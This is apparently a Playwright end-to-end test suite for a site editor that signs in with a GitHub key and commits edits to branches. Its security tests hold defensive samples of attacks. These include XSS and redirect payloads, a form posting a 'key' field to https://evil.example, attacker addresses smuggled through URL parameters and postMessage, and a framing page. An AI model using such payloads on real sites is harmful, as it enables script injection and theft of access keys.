import {join} from 'node:path'
import type {BrowserContext, Page} from 'playwright/test'
import type {FakeGitHub} from '../edit/host/fakeGitHub.ts'
import {lastParagraph} from '../editor/kindsPage.ts'
import {findViolations} from '../findViolations.ts'
import {api, servePreview, startPreviewHost} from '../previewSite.ts'
import {test as base, expect, siteDetails} from './site.ts'

interface WorkerFixtures {
  /** The address of a server for a preview build. */
  address: string
}

interface Fixtures {
  /** The code host, whose repository has the files of the preview. */
  host: FakeGitHub
}

const test = base.extend<Fixtures, WorkerFixtures>({
  address: [
    // biome-ignore lint/correctness/noEmptyPattern: Playwright reads the dependencies of a fixture from this pattern.
    async ({}, use) => {
      const {address, stop} = await servePreview()
      await use(address)
      await stop()
    },
    {scope: 'worker', timeout: 240_000},
  ],
  baseURL: ({address}, use) => use(address),
  host: async ({context}, use) => {
    const host = await startPreviewHost()
    await routeToHost(context, host)
    await use(host)
    expect(host.violations).toEqual([])
    await host.stop()
  },
})

/** Sends what the pages of a context ask GitHub to the code host of a test. */
function routeToHost(context: BrowserContext, host: FakeGitHub) {
  return context.route(`${api}/**`, async (route) => {
    const response = await route
      .fetch({url: route.request().url().replace(api, host.address)})
      .catch(() => undefined)
    return response ? route.fulfill({response}) : route.abort()
  })
}

/** What a person sees in the editor of a preview. */
function editorOn(page: Page) {
  const bar = page.getByRole('region', {name: 'Editing', exact: true})
  return {
    bar,
    main: page.getByRole('main'),
    status: bar.getByRole('status'),
    textEditor: page.locator('[data-editor=text]'),
    panel: (name: string) => page.getByRole('region', {name, exact: true}),
  }
}

async function signIn(page: Page, key: string, own = false) {
  await page.getByLabel('Your key').fill(key)
  if (own) await page.getByLabel('This is my own device').check()
  await page.getByRole('button', {name: 'Sign in'}).click()
}

/** Opens a page for editing, and signs in. */
async function open(page: Page, path: string, {key}: FakeGitHub) {
  await page.goto(`/edit${path}`)
  await signIn(page, key)
  await editorOn(page).bar.waitFor()
}

async function retype(page: Page, words: string) {
  await page.keyboard.press('ControlOrMeta+a')
  await page.keyboard.type(words)
  await page.keyboard.press('ControlOrMeta+s')
}

/** The latest branch of the person. */
const branchOf = (host: FakeGitHub) =>
  host.git('branch', '--list', 'edit/nadia/*', '--format=%(refname:short)').trim()

const log = (host: FakeGitHub, branch: string) => host.git('log', '--format=%s', branch).trim().split('\n')

// S14.62
test('words are edited in place, saved as a commit on the person’s branch, found again, undone and sent for review', async ({
  page,
  host,
}) => {
  const {main, status, textEditor, bar, panel} = editorOn(page)
  await page.goto('/about')
  await page
    .getByRole('link', {name: /^Edit these words/})
    .first()
    .click()
  await expect(page).toHaveURL(/\/edit\/about/)
  await signIn(page, host.key)
  await bar.waitFor()
  const heading = main.getByRole('heading', {level: 1})
  const before = await heading.innerText()
  await heading.click()
  await expect(textEditor).toBeFocused()
  await retype(page, 'Money, in words of one’s own')
  await expect(status).toHaveText('Saved.')
  await page.keyboard.press('Escape')
  await expect(heading).toHaveText('Money, in words of one’s own')
  expect(log(host, branchOf(host))).toHaveLength(2)
  expect(host.git('show', `${branchOf(host)}:pages/about.mdx`)).toContain('# Money, in words of one’s own')
  expect(host.git('show', 'main:pages/about.mdx')).not.toContain('one’s own')

  await page.reload()
  await signIn(page, host.key)
  await expect(heading).toHaveText('Money, in words of one’s own')
  await bar.getByRole('button', {name: 'What I changed'}).click()
  await panel('What I changed').getByRole('button', {name: /^Undo/}).click()
  await expect(heading).toHaveText(before)
  await panel('What I changed').getByRole('button', {name: /^Redo/}).click()
  await expect(heading).toHaveText('Money, in words of one’s own')

  await bar.getByRole('button', {name: 'Propose these changes'}).click()
  const proposal = panel('Propose these changes')
  await proposal.getByLabel('Describe your changes in one sentence').fill('Say it in our own words')
  await proposal.getByRole('button', {name: 'Save as a proposal'}).click()
  await proposal.getByRole('button', {name: 'Send for review'}).click()
  await expect(proposal.getByRole('link')).toHaveAttribute('href', /pull\/1$/)
  expect(host.state.pulls).toMatchObject([{title: 'Say it in our own words', state: 'open'}])
  await page.keyboard.press('Escape')
  await bar.getByRole('button', {name: 'Propose these changes'}).click()
  await expect(proposal).toContainText('Nobody has answered yet. What you change now is added to it.')
})

// S14.62
test('a save leaves what it does not change as it was, such as an answer that is open', async ({
  page,
  host,
}) => {
  const {main, status, textEditor} = editorOn(page)
  await open(page, '/kinds', host)
  const others = main.getByRole('heading', {level: 2})
  await others.first().evaluate((heading) => heading.setAttribute('data-kept', ''))
  await main.getByText(lastParagraph).click()
  await expect(textEditor).toBeFocused()
  await retype(page, 'Other last words.')
  await expect(status).toHaveText('Saved.')
  await expect(main.getByText('Other last words.').first()).toBeVisible()
  await expect(main.locator('[data-kept]')).toHaveCount(1)
})

// S14.62
test('a record that is changed shows its new words in its card at once', async ({page, host}) => {
  const {main, panel, status} = editorOn(page)
  await open(page, '/kinds', host)
  await main.getByRole('article').getByRole('time').first().click()
  const title = panel('Course date').getByLabel('Title', {exact: true})
  await title.fill('A course with another name')
  await title.press('Enter')
  await expect(status).toHaveText('Saved.')
  await expect(main.getByRole('article').first()).toContainText('A course with another name')
})

// S14.62
test('a page that is added opens at once, and links lead to other pages without another key', async ({
  page,
  host,
}) => {
  const {main, bar, panel} = editorOn(page)
  await open(page, '/about', host)
  await bar.getByRole('button', {name: 'Add…'}).click()
  const form = panel('Add to the site')
  await form.getByLabel('Title', {exact: true}).fill('Tea, and more')
  await form.getByLabel('Description', {exact: true}).fill('Bring a bill. Leave with a plan.')
  await form.getByRole('button', {name: 'Add', exact: true}).click()
  await page.getByRole('link', {name: /^Open/}).click()
  await expect(main.getByRole('heading', {level: 1})).toHaveText('Tea, and more')
  await expect(page).toHaveURL(/\/edit\/tea-and-more$/)
  await page.reload()
  await signIn(page, host.key)
  await expect(main.getByRole('heading', {level: 1})).toHaveText('Tea, and more')
})

// S14.63
test('the key is kept only in the tab, or in this browser where the person says so, and is sent to the host alone', async ({
  page,
  host,
}) => {
  const elsewhere: string[] = []
  page.on('request', (request) => {
    const sent = JSON.stringify([request.url(), request.headers(), request.postData()])
    if (!request.url().startsWith(api) && sent.includes(host.key)) elsewhere.push(request.url())
  })
  const stored = () =>
    page.evaluate(() => JSON.stringify([{...localStorage}, {...sessionStorage}, document.cookie]))
  await open(page, '/about', host)
  expect(await stored()).not.toContain(host.key)
  await page.reload()
  await signIn(page, host.key, true)
  await editorOn(page).bar.waitFor()
  await page.reload()
  await editorOn(page).bar.waitFor()
  await page.getByRole('button', {name: 'Sign out'}).click()
  await page.getByLabel('Your key').waitFor()
  expect(await stored()).not.toContain(host.key)
  expect(elsewhere).toEqual([])
  const blocked = page.evaluate(
    () =>
      new Promise<string>((resolve) => {
        addEventListener('securitypolicyviolation', ({blockedURI}) => resolve(blockedURI))
        fetch('https://example.org/').catch(() => {})
      }),
  )
  expect(await blocked).toContain('https://example.org')
})

// S14.62
test('a picture that is added is shown at once, and again after a reload', async ({page, host}) => {
  const {main, bar, panel, textEditor} = editorOn(page)
  await open(page, '/kinds', host)
  await main.getByText(lastParagraph).click()
  await expect(textEditor).toBeFocused()
  await page
    .getByRole('region', {name: /^Tools for/})
    .getByRole('button', {name: 'Picture', exact: true})
    .click()
  const form = panel('Add a picture')
  await form.getByLabel('Picture file').setInputFiles(join(process.cwd(), 'public/icon-192.png'))
  await form.getByLabel('What does the picture show?').fill('A coin with twelve sides')
  await form.getByRole('button', {name: 'Add the picture'}).click()
  const picture = main.getByRole('img', {name: 'A coin with twelve sides'})
  const isLoaded = () => picture.evaluate((image) => (image as HTMLImageElement).naturalWidth > 0)
  await expect.poll(isLoaded).toBe(true)
  await page.reload()
  await signIn(page, host.key)
  await expect(bar).toBeVisible()
  await expect.poll(isLoaded).toBe(true)
})

// S14.62
test('a page that is shown gets another address and its old one again, and the person stays signed in', async ({
  page,
  host,
}) => {
  const {main, bar, panel} = editorOn(page)
  await open(page, '/kinds', host)
  await bar.getByRole('button', {name: 'Title and description'}).click()
  const settings = panel('Title and description')
  await settings.getByLabel('Address of this page').fill('/every-kind')
  await settings.getByRole('button', {name: 'Change the address'}).click()
  await expect(page).toHaveURL(/\/edit\/every-kind$/)
  await expect(main.getByRole('heading', {level: 1})).toBeVisible()
  await bar.getByRole('button', {name: 'Undo'}).click()
  await expect(page).toHaveURL(/\/edit\/kinds$/)
  await expect(bar).toBeVisible()
})

// S14.63
test('a key that can’t be used says why, and the form stays', async ({page, host}) => {
  await page.goto('/edit/about')
  const status = page.locator('#siteSignIn').getByRole('status')
  await signIn(page, 'github_pat_none')
  await expect(status).toContainText('Your key has run out, was withdrawn, or was not copied whole.')
  host.state.canPush = false
  await signIn(page, host.key)
  await expect(status).toContainText('Your key does not allow this.')
  host.state.canPush = true
  expect(await findViolations(page)).toEqual([])
  await signIn(page, host.key)
  await editorOn(page).bar.waitFor()
})

// S14.62
test('without a connection the words stay in the box, and are saved and undone once it is back', async ({
  page,
  host,
}) => {
  const {main, status, textEditor} = editorOn(page)
  await open(page, '/about', host)
  const heading = main.getByRole('heading', {level: 1})
  const before = await heading.innerText()
  await heading.click()
  await expect(textEditor).toBeFocused()
  host.failNext('cutOffBefore')
  await retype(page, 'Money on a train')
  await expect(status).toContainText('could not be reached')
  await expect(textEditor).toHaveText('Money on a train')
  await page.keyboard.press('ControlOrMeta+s')
  await expect(status).toHaveText('Saved.')
  expect(host.git('show', `${branchOf(host)}:pages/about.mdx`)).toContain('# Money on a train')
  await page.keyboard.press('Escape')
  host.failNext('cutOffBefore')
  await page.keyboard.press('ControlOrMeta+z')
  await expect(status).toContainText('could not be reached')
  await page.keyboard.press('ControlOrMeta+z')
  await expect(heading).toHaveText(before)
})

// S14.63
test('when the key runs out or loses its rights, a new one is asked for beside the words, which are then saved', async ({
  page,
  host,
}) => {
  const {main, bar, status, textEditor, panel} = editorOn(page)
  await open(page, '/about', host)
  const heading = main.getByRole('heading', {level: 1})
  await heading.click()
  await expect(textEditor).toBeFocused()
  host.renewKey()
  await retype(page, 'Money without a key')
  const form = page.getByRole('form', {name: 'Sign in again'})
  await expect(form.getByRole('status')).toContainText('Your key has run out')
  await expect(textEditor).toHaveText('Money without a key')
  expect(await findViolations(page)).toEqual([])
  await textEditor.click()
  await page.keyboard.press('ControlOrMeta+a')
  await page.keyboard.type('Money with a new key')
  host.failNext('unavailable', /user/)
  await signIn(page, host.key)
  await expect(form.getByRole('status')).toContainText('has a problem of its own')
  await signIn(page, host.key)
  await expect(form).toBeHidden()
  await expect(status).toHaveText('Saved.')
  expect(host.git('show', `${branchOf(host)}:pages/about.mdx`)).toContain('# Money with a new key')

  await page.keyboard.press('Escape')
  await bar.getByRole('button', {name: 'Title and description'}).click()
  const title = panel('Title and description').getByLabel('Title', {exact: true})
  host.state.canPush = false
  await title.fill('Money, in time')
  await title.press('Enter')
  await expect(form.getByRole('status')).toContainText('Your key does not allow this.')
  host.state.canPush = true
  await signIn(page, host.key)
  await expect(status).toHaveText('Saved.')
  expect(host.git('show', `${branchOf(host)}:pages/about.mdx`)).toContain('title: Money, in time')
})

// S14.62
test('on a phone the page and the bar fit the screen', async ({page, host}) => {
  await page.setViewportSize({width: 360, height: 640})
  await page.goto('/edit/about')
  expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBe(360)
  await signIn(page, host.key)
  await editorOn(page).bar.waitFor()
  await expect(editorOn(page).main).toBeVisible()
  expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBe(360)
})

// S14.63
test('the key is in no log, address, commit or message, whatever fails', async ({page, host}) => {
  const logged: string[] = []
  page.on('console', (message) => logged.push(message.text()))
  page.on('pageerror', ({message, stack}) => logged.push(`${message} ${stack}`))
  page.on('framenavigated', (frame) => logged.push(frame.url()))
  const {main, status, textEditor} = editorOn(page)
  await open(page, '/about', host)
  const heading = main.getByRole('heading', {level: 1})
  await heading.click()
  await expect(textEditor).toBeFocused()
  const faults = [
    ['notJson', 'gave an unexpected answer'],
    ['broken', 'has a problem of its own'],
    ['rateLimit', 'too much in a short time'],
  ] as const
  for (const [fault, words] of faults) {
    host.failNext(fault, /matching-refs/)
    await retype(page, `Money despite ${fault}`)
    await expect(status).toContainText(words)
    logged.push(await page.locator('body').innerText(), await status.innerText())
  }
  await page.keyboard.press('ControlOrMeta+s')
  await expect(status).toHaveText('Saved.')
  const stored = await page.evaluate(() => JSON.stringify([{...localStorage}, {...sessionStorage}]))
  const commits = host.git('log', '--all', '--patch', '--format=fuller')
  expect([...logged, stored, commits, page.url()].filter((text) => text.includes(host.key))).toEqual([])
})

// S14.63
test('neither an address nor a message of another page changes where the key is sent', async ({
  page,
  host,
}) => {
  const asked: string[] = []
  page.on('request', (request) => asked.push(new URL(request.url()).origin))
  const evil = 'https://evil.example'
  await page.goto(`/edit/about?key=x&api=${evil}&repository=evil/site&workerFile=${evil}/w.js#api=${evil}`)
  await page.evaluate((address) => {
    const access = {repository: 'evil/site', key: 'x', api: address, branch: ''}
    for (const data of [{open: access, siteFile: `${address}/site.json`}, {signedOut: 'Sign in.'}])
      postMessage(data, '*')
  }, evil)
  await signIn(page, host.key)
  await editorOn(page).bar.waitFor()
  await page.goto('/edit//evil.example/about')
  expect(asked.filter((origin) => origin.endsWith('evil.example'))).toEqual([])
})

// S14.63
test('what a colleague’s branch has in its words runs nothing and leads nowhere', async ({page, host}) => {
  const source = host.git('show', 'main:pages/about.mdx')
  const attacks = [
    '<meta httpEquiv="refresh" content="0;url=https://evil.example/" />',
    '<script async src="/attack.js">{`window.attacked = true`}</script>',
    '<img src="/none.png" alt="A picture" onError="window.attacked = true" />',
    '<iframe srcDoc="&lt;script&gt;top.attacked = true&lt;/script&gt;" />',
    '<html data-api="https://evil.example" data-repository="evil/site" />',
    '<form id="siteSignIn" action="https://evil.example/"><input name="key" /></form>',
    '[Click me first](javascript:window.attacked=true)',
    '## Heading with {window.attacked = true} <b onClick="window.attacked = true">in it</b>',
  ]
  const blob = host.gitWithInput(
    `${source}\n\n${attacks.join('\n\n')}\n\nAfter all of these.\n`,
    'hash-object',
    '-w',
    '--stdin',
  )
  host.git('read-tree', 'main')
  host.git('update-index', '--cacheinfo', `100644,${blob},pages/about.mdx`)
  const tree = host.git('write-tree')
  host.git('update-ref', 'refs/heads/main', host.git('commit-tree', tree, '-p', 'main', '-m', 'Attack'))
  const {main} = editorOn(page)
  await page.route('**/attack.js', (route) =>
    route.fulfill({contentType: 'text/javascript', body: 'window.attacked = true'}),
  )
  await open(page, '/about', host)
  await expect(main.getByText('After all of these.')).toBeVisible()
  await main.getByText('Click me first').click({modifiers: ['ControlOrMeta']})
  await page.waitForTimeout(1000)
  expect(await page.evaluate(() => ('attacked' in window ? 'attacked' : 'safe'))).toBe('safe')
  await expect(page).toHaveURL(/\/edit\/about$/)
  await expect(page.locator('main :is(script, iframe, form[action], meta)')).toHaveCount(0)
  await expect(page.locator('html')).toHaveAttribute('data-api', api)
})

// S14.63
test('inside a page of another site the editor does not start, also where the host sends no header', async ({
  page,
  host,
  address,
}) => {
  await page.goto('/edit/about')
  await signIn(page, host.key, true)
  await editorOn(page).bar.waitFor()
  await page.route('**/edit/about', async (route) => {
    const response = await route.fetch()
    const headers = Object.fromEntries(
      Object.entries(response.headers()).filter(([name]) => !/^(x-frame|content-security)/.test(name)),
    )
    await route.fulfill({response, headers})
  })
  // A page of this site is as good: it has the key in its storage.
  await page.route('**/framing', (route) =>
    route.fulfill({
      contentType: 'text/html',
      body: `<iframe src="${address}/edit/about" width="900" height="600"></iframe>`,
    }),
  )
  const before = host.requests.length
  await page.goto('/framing')
  const frame = page.frameLocator('iframe')
  await expect(frame.getByText('The editor does not start inside another page.')).toBeVisible()
  await expect(frame.getByLabel('Your key')).toHaveCount(0)
  expect(host.requests.length).toBe(before)
})

// S14.62
test('after signing in the heading has the focus, the page’s panel shows the site’s own address, and a button that fails says why beside it', async ({
  page,
  host,
}) => {
  const {main, bar, panel, status} = editorOn(page)
  await open(page, '/about', host)
  await expect(main.getByRole('heading', {level: 1})).toBeFocused()
  await expect(status).toHaveText('You are signed in. Click any text to edit it.')
  await bar.getByRole('button', {name: 'Title and description'}).click()
  const {hostname} = new URL(siteDetails.url)
  await expect(panel('Title and description').locator('.result')).toContainText(`${hostname}/about`)
  await bar.getByRole('button', {name: 'Propose these changes'}).click()
  const proposal = panel('Propose these changes')
  await expect(proposal).toContainText('Get the latest site')
  host.failNext('unavailable')
  await proposal.getByRole('button', {name: 'Get the latest site'}).click()
  await expect(proposal.getByRole('alert')).toContainText('The code host has a problem of its own.')
  await expect(status).not.toContainText('problem')
  expect(await findViolations(page)).toEqual([])
  await page.keyboard.press('Escape')
  await bar.getByRole('button', {name: 'What I changed'}).click()
  await expect(panel('What I changed').getByRole('alert')).toBeEmpty()
})

// S14.62
test('on a phone with its keyboard open the bar is one line, below the text that is edited, with targets of 44 pixels', async ({
  browser,
  address,
  host,
}) => {
  const context = await browser.newContext({
    viewport: {width: 360, height: 380},
    hasTouch: true,
    isMobile: true,
  })
  await routeToHost(context, host)
  const page = await context.newPage()
  const {main, bar, textEditor} = editorOn(page)
  await page.goto(`${address}/edit/about`)
  await signIn(page, host.key)
  await bar.waitFor()
  await main.locator('p[data-edit]').first().tap()
  await expect(textEditor).toBeFocused()
  const shown = bar.locator('..').getByRole('button').filter({visible: true})
  const boxes = await shown.evaluateAll((all) =>
    all.map((each) => each.getBoundingClientRect().toJSON() as DOMRect),
  )
  expect(Math.min(...boxes.flatMap(({width, height}) => [width, height]))).toBeGreaterThanOrEqual(44)
  expect(new Set(boxes.map(({top}) => top)).size).toBe(1)
  const [text, below] = [await textEditor.boundingBox(), await bar.boundingBox()]
  expect((text?.y ?? 0) + (text?.height ?? 0)).toBeLessThan(below?.y ?? 0)
  await context.close()
})
